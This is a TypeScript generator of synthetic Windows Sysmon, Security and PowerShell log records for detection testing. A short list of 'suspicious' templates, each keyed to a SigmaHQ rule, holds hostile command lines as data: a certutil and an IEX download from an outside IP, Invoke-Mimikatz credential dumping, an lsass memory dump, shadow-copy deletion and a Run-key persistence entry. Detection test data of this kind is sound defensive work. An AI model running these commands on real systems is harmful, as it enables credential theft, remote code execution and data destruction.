/**
 * Windows event templates (Sysmon, Security, PowerShell) as neutral records: Windows field names and values,
 * before they are shaped as Winlogbeat/ECS or evtx_dump JSON (see windows-shapes.ts).
 */
import { Random, stableHex } from './prng.ts';

export const SYSMON = { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
export const SECURITY = { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' };
export const POWERSHELL = { channel: 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' };
const EVENTLOG = { channel: 'Security', provider: 'Microsoft-Windows-Eventlog', guid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}' };

export type EventValue = string | number;

export interface WindowsRecord {
  eventId: number;
  channel: string;
  provider: string;
  providerGuid: string;
  computer: string;
  /** Milliseconds since the epoch. */
  time: number;
  data: Record<string, EventValue>;
  /** Events that carry UserData instead of EventData (1102). */
  userData?: { element: string; fields: Record<string, EventValue> };
  /** The Sigma log source the event belongs to, used to shape ECS fields the way the pipeline maps them. */
  logsource: { category?: string; service: string };
  /** Name of the suspicious template, when the event is one. */
  suspicious?: string;
}

interface Host {
  name: string;
  ip: string;
  users: string[];
}

interface Program {
  image: string;
  original: string;
  description: string;
  product: string;
  company: string;
  version: string;
  commandLines: string[];
  parents: string[];
  user?: 'SYSTEM' | 'NETWORK SERVICE' | 'LOCAL SERVICE';
}

const MS = { product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', version: '10.0.19041.3636 (WinBuild.160101.0800)' };
const SYS32 = 'C:\\Windows\\System32';

const PROGRAMS: Program[] = [
  { image: `${SYS32}\\svchost.exe`, original: 'svchost.exe', description: 'Host Process for Windows Services', ...MS, commandLines: [`${SYS32}\\svchost.exe -k netsvcs -p -s Schedule`, `${SYS32}\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog`, `${SYS32}\\svchost.exe -k UnistackSvcGroup -s WpnUserService_5c2a1`, `${SYS32}\\svchost.exe -k wsappx -p -s AppXSvc`], parents: [`${SYS32}\\services.exe`], user: 'SYSTEM' },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', original: 'chrome.exe', description: 'Google Chrome', product: 'Google Chrome', company: 'Google LLC', version: '120.0.6099.130', commandLines: ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7 --mojo-platform-channel-handle=3204 /prefetch:1', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US /prefetch:8', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'], parents: ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe'] },
  { image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', original: 'msedge.exe', description: 'Microsoft Edge', product: 'Microsoft Edge', company: 'Microsoft Corporation', version: '120.0.2210.91', commandLines: ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAABAAAAAAAAAEAAAAAAAAAAIAAAAAAAAAAgAAAAAAAAA --mojo-platform-channel-handle=2048 /prefetch:2', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=storage.mojom.StorageService /prefetch:8'], parents: ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'] },
  { image: 'C:\\Windows\\explorer.exe', original: 'EXPLORER.EXE', description: 'Windows Explorer', ...MS, commandLines: ['C:\\Windows\\Explorer.EXE'], parents: [`${SYS32}\\userinit.exe`] },
  { image: `${SYS32}\\conhost.exe`, original: 'CONHOST.EXE', description: 'Console Window Host', ...MS, commandLines: ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'], parents: [`${SYS32}\\cmd.exe`] },
  { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', original: 'Outlook.exe', description: 'Microsoft Outlook', product: 'Microsoft Outlook', company: 'Microsoft Corporation', version: '16.0.17126.20132', commandLines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'], parents: ['C:\\Windows\\explorer.exe'] },
  { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', original: 'WinWord.exe', description: 'Microsoft Word', product: 'Microsoft Office', company: 'Microsoft Corporation', version: '16.0.17126.20132', commandLines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\%USER%\\Documents\\Quarterly report.docx" /o ""'], parents: ['C:\\Windows\\explorer.exe'] },
  { image: `${SYS32}\\RuntimeBroker.exe`, original: 'RuntimeBroker.exe', description: 'Runtime Broker', ...MS, commandLines: [`${SYS32}\\RuntimeBroker.exe -Embedding`], parents: [`${SYS32}\\svchost.exe`] },
  { image: `${SYS32}\\taskhostw.exe`, original: 'taskhostw.exe', description: 'Host Process for Windows Tasks', ...MS, commandLines: ['taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe Install $(Arg0)'], parents: [`${SYS32}\\svchost.exe`] },
  { image: `${SYS32}\\backgroundTaskHost.exe`, original: 'backgroundTaskHost.exe', description: 'Background Task Host', ...MS, commandLines: ['"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider'], parents: [`${SYS32}\\svchost.exe`] },
  { image: `${SYS32}\\SearchProtocolHost.exe`, original: 'SearchProtocolHost.exe', description: 'Microsoft Windows Search Protocol Host', ...MS, commandLines: ['"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'], parents: [`${SYS32}\\SearchIndexer.exe`], user: 'SYSTEM' },
  { image: `${SYS32}\\wbem\\WmiPrvSE.exe`, original: 'Wmiprvse.exe', description: 'WMI Provider Host', ...MS, commandLines: ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'], parents: [`${SYS32}\\svchost.exe`], user: 'NETWORK SERVICE' },
  { image: `${SYS32}\\notepad.exe`, original: 'NOTEPAD.EXE', description: 'Notepad', ...MS, commandLines: ['"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\%USER%\\Documents\\todo.txt'], parents: ['C:\\Windows\\explorer.exe'] },
  { image: 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', original: 'electron.exe', description: 'Visual Studio Code', product: 'Visual Studio Code', company: 'Microsoft Corporation', version: '1.85.1', commandLines: ['"C:\\Users\\%USER%\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService'], parents: ['C:\\Users\\%USER%\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe'] },
  { image: `${SYS32}\\cmd.exe`, original: 'Cmd.Exe', description: 'Windows Command Processor', ...MS, commandLines: ['C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Corp\\inventory.bat"', 'C:\\Windows\\system32\\cmd.exe /d /c "C:\\Program Files\\Git\\cmd\\git.exe" status'], parents: [`${SYS32}\\svchost.exe`, 'C:\\Windows\\explorer.exe'] },
  { image: `${SYS32}\\msiexec.exe`, original: 'msiexec.exe', description: 'Windows® installer', ...MS, commandLines: ['C:\\Windows\\system32\\msiexec.exe /V'], parents: [`${SYS32}\\services.exe`], user: 'SYSTEM' },
  { image: 'C:\\Program Files\\Windows Defender\\MsMpEng.exe', original: 'MsMpEng.exe', description: 'Antimalware Service Executable', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', version: '4.18.23110.3', commandLines: ['"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.23110.3-0\\MsMpEng.exe"'], parents: [`${SYS32}\\services.exe`], user: 'SYSTEM' },
  { image: `${SYS32}\\dllhost.exe`, original: 'dllhost.exe', description: 'COM Surrogate', ...MS, commandLines: ['C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}'], parents: [`${SYS32}\\svchost.exe`] },
];

const DLLS = ['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'user32.dll', 'advapi32.dll', 'combase.dll', 'ole32.dll', 'crypt32.dll', 'wininet.dll', 'ws2_32.dll', 'msvcrt.dll', 'sechost.dll', 'rpcrt4.dll', 'bcrypt.dll', 'shell32.dll'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'outlook.office365.com', 'update.googleapis.com', 'github.com', 'teams.microsoft.com', 'ctldl.windowsupdate.com', 'intranet.corp.example.com', 'fileserver.corp.example.com', 'settings-win.data.microsoft.com', 'clients2.google.com', 'api.slack.com'];
const EXTERNAL_IPS = ['142.250.74.196', '20.190.159.2', '52.97.146.162', '140.82.121.4', '13.107.42.14', '104.18.32.7', '151.101.1.69'];
const FIRST = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'niaj', 'olivia', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter', 'yvonne'];
const LAST = ['martin', 'bernard', 'dubois', 'thomas', 'robert', 'richard', 'petit', 'durand', 'leroy', 'moreau'];
const DOMAIN = 'CORP';

export function makeHosts(random: Random): Host[] {
  const users = FIRST.flatMap((f) => LAST.slice(0, 3).map((l) => `${f}.${l}`));
  const hosts: Host[] = [];
  for (let i = 1; i <= 48; i++) {
    hosts.push({ name: `WS-${String(i).padStart(4, '0')}.corp.example.com`, ip: `10.20.${Math.floor(i / 200)}.${(i % 200) + 20}`, users: [random.pick(users), random.pick(users)] });
  }
  for (const [i, name] of ['DC01', 'DC02', 'FS01', 'SQL01', 'WEB01', 'EXCH01'].entries()) {
    hosts.push({ name: `${name}.corp.example.com`, ip: `10.10.0.${10 + i}`, users: ['svc_backup', random.pick(users)] });
  }
  return hosts;
}

function utc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

function hashes(image: string): string {
  return `SHA1=${stableHex(`sha1${image}`, 40)},MD5=${stableHex(`md5${image}`, 32)},SHA256=${stableHex(`sha256${image}`, 64)},IMPHASH=${stableHex(`imp${image}`, 32)}`;
}

function sid(user: string): string {
  return `S-1-5-21-3623811015-3361044348-30300820-${1100 + (parseInt(stableHex(user, 4), 16) % 8000)}`;
}

/** Everything one event needs to know about where and when it happens. */
export interface Moment {
  random: Random;
  host: Host;
  time: number;
}

function userOf(m: Moment, program?: Program): { domain: string; name: string } {
  if (program?.user) return { domain: 'NT AUTHORITY', name: program.user };
  return { domain: DOMAIN, name: m.random.pick(m.host.users) };
}

function personalise(text: string, user: string): string {
  return text.replaceAll('%USER%', user);
}

function base(m: Moment, source: typeof SYSMON, eventId: number, logsource: WindowsRecord['logsource'], data: Record<string, EventValue>): WindowsRecord {
  return { eventId, channel: source.channel, provider: source.provider, providerGuid: source.guid, computer: m.host.name, time: m.time, data, logsource };
}

interface ProcessSpec {
  image: string;
  original: string;
  description: string;
  product: string;
  company: string;
  version: string;
  commandLine: string;
  parentImage: string;
  parentCommandLine: string;
  user: { domain: string; name: string };
}

function programSpec(m: Moment, program: Program): ProcessSpec {
  const user = userOf(m, program);
  const parentImage = m.random.pick(program.parents);
  return {
    image: personalise(program.image, user.name),
    original: program.original,
    description: program.description,
    product: program.product,
    company: program.company,
    version: program.version,
    commandLine: personalise(m.random.pick(program.commandLines), user.name),
    parentImage: personalise(parentImage, user.name),
    parentCommandLine: personalise(parentImage.includes(' ') ? `"${parentImage}"` : parentImage, user.name),
    user,
  };
}

function sysmonProcessCreation(m: Moment, p: ProcessSpec): WindowsRecord {
  const integrity = p.user.domain === 'NT AUTHORITY' ? 'System' : 'Medium';
  return base(m, SYSMON, 1, { category: 'process_creation', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: p.image,
    FileVersion: p.version,
    Description: p.description,
    Product: p.product,
    Company: p.company,
    OriginalFileName: p.original,
    CommandLine: p.commandLine,
    CurrentDirectory: p.user.domain === 'NT AUTHORITY' ? 'C:\\Windows\\system32\\' : `C:\\Users\\${p.user.name}\\`,
    User: `${p.user.domain}\\${p.user.name}`,
    LogonGuid: m.random.guid(),
    LogonId: `0x${m.random.int(0x3e7, 0xffffff).toString(16)}`,
    TerminalSessionId: p.user.domain === 'NT AUTHORITY' ? 0 : 1,
    IntegrityLevel: integrity,
    Hashes: hashes(p.image),
    ParentProcessGuid: m.random.guid(),
    ParentProcessId: m.random.int(400, 30000),
    ParentImage: p.parentImage,
    ParentCommandLine: p.parentCommandLine,
  });
}

function securityProcessCreation(m: Moment, p: ProcessSpec): WindowsRecord {
  return base(m, SECURITY, 4688, { category: 'process_creation', service: 'security' }, {
    SubjectUserSid: p.user.domain === 'NT AUTHORITY' ? 'S-1-5-18' : sid(p.user.name),
    SubjectUserName: p.user.domain === 'NT AUTHORITY' ? `${m.host.name.split('.')[0]}$` : p.user.name,
    SubjectDomainName: p.user.domain === 'NT AUTHORITY' ? DOMAIN : p.user.domain,
    SubjectLogonId: `0x${m.random.int(0x3e7, 0xffffff).toString(16)}`,
    NewProcessId: `0x${m.random.int(0x100, 0x7fff).toString(16)}`,
    NewProcessName: p.image,
    TokenElevationType: '%%1936',
    ProcessId: `0x${m.random.int(0x100, 0x7fff).toString(16)}`,
    CommandLine: p.commandLine,
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: p.parentImage,
    MandatoryLabel: 'S-1-16-8192',
  });
}

function processCreation(m: Moment): WindowsRecord {
  const spec = programSpec(m, m.random.pick(PROGRAMS));
  return m.random.next() < 0.85 ? sysmonProcessCreation(m, spec) : securityProcessCreation(m, spec);
}

function networkConnection(m: Moment): WindowsRecord {
  // Browsers, Explorer and services: Office apps and Kerberos from anything but lsass would be suspicious.
  const program = m.random.pick(PROGRAMS.slice(0, 4));
  const user = userOf(m, program);
  const internal = m.random.next() < 0.3;
  const port = internal ? m.random.pick([445, 389, 135, 53]) : m.random.pick([443, 443, 443, 80]);
  return base(m, SYSMON, 3, { category: 'network_connection', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: personalise(program.image, user.name),
    User: `${user.domain}\\${user.name}`,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: m.host.ip,
    SourceHostname: m.host.name,
    SourcePort: m.random.int(49152, 65535),
    SourcePortName: '-',
    DestinationIsIpv6: 'false',
    DestinationIp: internal ? `10.10.0.${m.random.int(10, 15)}` : m.random.pick(EXTERNAL_IPS),
    DestinationHostname: internal ? 'DC01.corp.example.com' : '-',
    DestinationPort: port,
    DestinationPortName: port === 443 ? 'https' : port === 80 ? 'http' : port === 445 ? 'microsoft-ds' : '-',
  });
}

function processTermination(m: Moment): WindowsRecord {
  const program = m.random.pick(PROGRAMS);
  const user = userOf(m, program);
  return base(m, SYSMON, 5, { category: 'process_termination', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: personalise(program.image, user.name),
    User: `${user.domain}\\${user.name}`,
  });
}

function imageLoad(m: Moment): WindowsRecord {
  const program = m.random.pick(PROGRAMS);
  const user = userOf(m, program);
  const dll = m.random.pick(DLLS);
  return base(m, SYSMON, 7, { category: 'image_load', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: personalise(program.image, user.name),
    ImageLoaded: `${SYS32}\\${dll}`,
    FileVersion: MS.version,
    Description: dll.replace('.dll', ''),
    Product: MS.product,
    Company: MS.company,
    OriginalFileName: dll,
    Hashes: hashes(dll),
    Signed: 'true',
    Signature: 'Microsoft Windows',
    SignatureStatus: 'Valid',
    User: `${user.domain}\\${user.name}`,
  });
}

function processAccess(m: Moment, target = `${SYS32}\\lsass.exe`, granted = '0x1000', source?: string, sourceUser = 'NT AUTHORITY\\SYSTEM'): WindowsRecord {
  const sourceImage = source ?? m.random.pick(['C:\\Program Files\\Windows Defender\\MsMpEng.exe', `${SYS32}\\svchost.exe`, `${SYS32}\\wbem\\WmiPrvSE.exe`]);
  return base(m, SYSMON, 10, { category: 'process_access', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    SourceProcessGUID: m.random.guid(),
    SourceProcessId: m.random.int(400, 30000),
    SourceThreadId: m.random.int(400, 30000),
    SourceImage: sourceImage,
    TargetProcessGUID: m.random.guid(),
    TargetProcessId: 624,
    TargetImage: target,
    GrantedAccess: granted,
    CallTrace: `${SYS32}\\ntdll.dll+9d4c4|${SYS32}\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A1B2C3D4)`,
    SourceUser: sourceUser,
    TargetUser: 'NT AUTHORITY\\SYSTEM',
  });
}

function fileCreate(m: Moment): WindowsRecord {
  const user = userOf(m);
  const program = m.random.pick(PROGRAMS.slice(1, 7));
  const file = m.random.pick([
    `C:\\Users\\${user.name}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_${m.random.hex(6).toLowerCase()}`,
    `C:\\Users\\${user.name}\\Downloads\\invoice_${m.random.int(1000, 9999)}.pdf`,
    `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\~DF${m.random.hex(4)}.TMP`,
    `C:\\Windows\\Prefetch\\CHROME.EXE-${m.random.hex(8)}.pf`,
    `C:\\Users\\${user.name}\\Documents\\notes-${m.random.int(1, 99)}.txt`,
  ]);
  return base(m, SYSMON, 11, { category: 'file_event', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: personalise(program.image, user.name),
    TargetFilename: file,
    CreationUtcTime: utc(m.time),
    User: `${user.domain}\\${user.name}`,
  });
}

function registry(m: Moment, eventId: 12 | 13, key?: string, details?: string, image?: string): WindowsRecord {
  const user = userOf(m);
  const target = key ?? m.random.pick([
    `HKU\\${sid(user.name)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx`,
    `HKU\\${sid(user.name)}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities`,
    'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18',
    'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated',
  ]);
  const data: Record<string, EventValue> = {
    RuleName: '-',
    EventType: eventId === 12 ? 'CreateKey' : 'SetValue',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    Image: image ?? m.random.pick(['C:\\Windows\\explorer.exe', `${SYS32}\\svchost.exe`, 'C:\\Program Files\\Windows Defender\\MsMpEng.exe']),
    TargetObject: target,
  };
  if (eventId === 13) data.Details = details ?? m.random.pick(['DWORD (0x00000001)', 'Binary Data', `QWORD (0x01da${m.random.hex(4)}-0x${m.random.hex(8)})`]);
  data.User = `${user.domain}\\${user.name}`;
  return base(m, SYSMON, eventId, { category: eventId === 12 ? 'registry_add' : 'registry_set', service: 'sysmon' }, data);
}

function dnsQuery(m: Moment): WindowsRecord {
  const program = m.random.pick(PROGRAMS.slice(1, 7));
  const user = userOf(m, program);
  return base(m, SYSMON, 22, { category: 'dns_query', service: 'sysmon' }, {
    RuleName: '-',
    UtcTime: utc(m.time),
    ProcessGuid: m.random.guid(),
    ProcessId: m.random.int(400, 30000),
    QueryName: m.random.pick(DOMAINS),
    QueryStatus: '0',
    QueryResults: `::ffff:${m.random.pick(EXTERNAL_IPS)};`,
    Image: personalise(program.image, user.name),
    User: `${user.domain}\\${user.name}`,
  });
}

function logon(m: Moment, eventId: 4624 | 4625): WindowsRecord {
  const user = m.random.pick(m.host.users);
  const network = m.random.next() < 0.6;
  const remoteDesktop = !network && m.random.next() < 0.1;
  const data: Record<string, EventValue> = {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: `${m.host.name.split('.')[0]}$`,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: '0x3e7',
    TargetUserSid: sid(user),
    TargetUserName: user,
    TargetDomainName: DOMAIN,
  };
  if (eventId === 4624) data.TargetLogonId = `0x${m.random.int(0x10000, 0xffffff).toString(16)}`;
  Object.assign(data, {
    LogonType: network ? 3 : remoteDesktop ? 10 : m.random.pick([2, 7, 11]),
    LogonProcessName: network ? 'NtLmSsp ' : 'User32 ',
    AuthenticationPackageName: network ? 'NTLM' : 'Negotiate',
    WorkstationName: m.random.pick(['WS-0003', 'WS-0017', 'WS-0025', '-']),
    ProcessId: network ? '0x0' : `0x${m.random.int(0x200, 0x900).toString(16)}`,
    ProcessName: network ? '-' : `${SYS32}\\svchost.exe`,
    IpAddress: network || remoteDesktop ? `10.20.0.${m.random.int(20, 70)}` : '127.0.0.1',
    IpPort: network || remoteDesktop ? m.random.int(49152, 65535) : 0,
  });
  if (eventId === 4625) Object.assign(data, { Status: '0xc000006d', FailureReason: '%%2313', SubStatus: '0xc000006a' });
  return base(m, SECURITY, eventId, { service: 'security' }, data);
}

function logoff(m: Moment): WindowsRecord {
  const user = m.random.pick(m.host.users);
  return base(m, SECURITY, 4634, { service: 'security' }, {
    TargetUserSid: sid(user),
    TargetUserName: user,
    TargetDomainName: DOMAIN,
    TargetLogonId: `0x${m.random.int(0x10000, 0xffffff).toString(16)}`,
    LogonType: 3,
  });
}

function specialPrivileges(m: Moment): WindowsRecord {
  const user = m.random.pick(['svc_backup', 'administrator', `${m.host.name.split('.')[0]}$`]);
  return base(m, SECURITY, 4672, { service: 'security' }, {
    SubjectUserSid: sid(user),
    SubjectUserName: user,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: `0x${m.random.int(0x10000, 0xffffff).toString(16)}`,
    PrivilegeList: 'SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege',
  });
}

function accountManagement(m: Moment, eventId: 4720 | 4732): WindowsRecord {
  const admin = 'it.admin';
  const subject = { SubjectUserSid: sid(admin), SubjectUserName: admin, SubjectDomainName: DOMAIN, SubjectLogonId: `0x${m.random.int(0x10000, 0xffffff).toString(16)}` };
  const newUser = `${m.random.pick(FIRST)}.${m.random.pick(LAST)}${m.random.int(2, 9)}`;
  if (eventId === 4720) {
    return base(m, SECURITY, 4720, { service: 'security' }, { TargetUserName: newUser, TargetDomainName: DOMAIN, TargetSid: sid(newUser), ...subject, PrivilegeList: '-', SamAccountName: newUser, DisplayName: '%%1793', UserPrincipalName: `${newUser}@corp.example.com`, UserAccountControl: '%%2080 %%2082 %%2084' });
  }
  return base(m, SECURITY, 4732, { service: 'security' }, { MemberName: '-', MemberSid: sid(newUser), TargetUserName: m.random.pick(['Remote Desktop Users', 'Backup Operators']), TargetDomainName: 'Builtin', TargetSid: 'S-1-5-32-555', ...subject, PrivilegeList: '-' });
}

function scriptBlock(m: Moment, text?: string): WindowsRecord {
  const script = text ?? m.random.pick([
    'Get-ChildItem -Path $env:TEMP -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item',
    '$PSVersionTable.PSVersion',
    'Import-Module -Name PSReadLine',
    'Get-Service -Name Spooler | Select-Object Status',
    'prompt',
    'Set-StrictMode -Version 1; $_.PSMessageDetails',
  ]);
  return base(m, POWERSHELL, 4104, { category: 'ps_script', service: 'powershell' }, {
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: script,
    ScriptBlockId: m.random.guid().slice(1, -1).toLowerCase(),
    Path: text ? '' : m.random.pick(['', 'C:\\ProgramData\\Corp\\cleanup.ps1']),
  });
}

function logCleared(m: Moment): WindowsRecord {
  const admin = m.random.pick(m.host.users);
  const record = base(m, EVENTLOG, 1102, { service: 'security' }, {});
  record.userData = { element: 'LogFileCleared', fields: { SubjectUserSid: sid(admin), SubjectUserName: admin, SubjectDomainName: DOMAIN, SubjectLogonId: `0x${m.random.int(0x10000, 0xffffff).toString(16)}` } };
  return record;
}

/** Benign activity by weight (roughly what a Sysmon + audit policy workstation fleet sends). */
const BENIGN: readonly (readonly [number, (m: Moment) => WindowsRecord])[] = [
  [20, processCreation],
  [12, networkConnection],
  [8, processTermination],
  [16, imageLoad],
  [3, (m) => processAccess(m)],
  [8, fileCreate],
  [3, (m) => registry(m, 12)],
  [6, (m) => registry(m, 13)],
  [8, dnsQuery],
  [6, (m) => logon(m, 4624)],
  [1, (m) => logon(m, 4625)],
  [5, logoff],
  [2, specialPrivileges],
  [0.03, (m) => accountManagement(m, 4720)],
  [0.03, (m) => accountManagement(m, 4732)],
  [2, (m) => scriptBlock(m)],
];

function suspiciousProcess(m: Moment, image: string, original: string, commandLine: string, parent = `${SYS32}\\cmd.exe`): WindowsRecord {
  const user = { domain: DOMAIN, name: m.random.pick(m.host.users) };
  const spec: ProcessSpec = { image, original, description: original, ...MS, commandLine, parentImage: parent, parentCommandLine: `"${parent}"`, user };
  return m.random.next() < 0.75 ? sysmonProcessCreation(m, spec) : securityProcessCreation(m, spec);
}

const PS = `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** Activity real SigmaHQ rules fire on (rule file names in comments, under rules/windows/). */
const SUSPICIOUS: readonly (readonly [string, (m: Moment) => WindowsRecord])[] = [
  // process_creation/proc_creation_win_whoami_priv_discovery.yml
  ['whoami-priv', (m) => suspiciousProcess(m, `${SYS32}\\whoami.exe`, 'whoami.exe', 'whoami /priv')],
  // process_creation/proc_creation_win_powershell_base64_encoded_cmd.yml
  ['powershell-encoded', (m) => suspiciousProcess(m, PS, 'PowerShell.EXE', 'powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0AA==', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
  // process_creation/proc_creation_win_certutil_download.yml
  ['certutil-download', (m) => suspiciousProcess(m, `${SYS32}\\certutil.exe`, 'CertUtil.exe', 'certutil.exe -urlcache -split -f http://185.220.101.7/update.exe C:\\Users\\Public\\update.exe')],
  // process_creation/proc_creation_win_rundll32_process_dump_via_comsvcs.yml
  ['comsvcs-minidump', (m) => suspiciousProcess(m, `${SYS32}\\rundll32.exe`, 'RUNDLL32.EXE', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full')],
  // process_creation/proc_creation_win_susp_shadow_copies_deletion.yml
  ['vssadmin-delete-shadows', (m) => suspiciousProcess(m, `${SYS32}\\vssadmin.exe`, 'VSSADMIN.EXE', 'vssadmin.exe delete shadows /all /quiet')],
  // powershell/powershell_script/posh_ps_malicious_commandlets.yml
  ['mimikatz-scriptblock', (m) => scriptBlock(m, 'IEX (New-Object Net.WebClient).DownloadString("http://185.220.101.7/im.ps1"); Invoke-Mimikatz -DumpCreds')],
  // builtin/security/win_security_audit_log_cleared.yml
  ['security-log-cleared', logCleared],
  // process_access/proc_access_win_lsass_memdump.yml (full access from a non-system tool)
  ['lsass-access', (m) => processAccess(m, `${SYS32}\\lsass.exe`, '0x1FFFFF', 'C:\\Users\\Public\\procdump64.exe', `${DOMAIN}\\${m.random.pick(m.host.users)}`)],
  // registry/registry_set/registry_set_asep_reg_keys_modification_currentversion.yml
  ['run-key', (m) => registry(m, 13, 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\Public\\update.exe', PS)],
];

export const SUSPICIOUS_SHARE = 0.005;

export function nextRecord(m: Moment): WindowsRecord {
  if (m.random.next() < SUSPICIOUS_SHARE) {
    const [name, make] = m.random.pick(SUSPICIOUS);
    const record = make(m);
    record.suspicious = name;
    return record;
  }
  return m.random.weighted(BENIGN)(m);
}
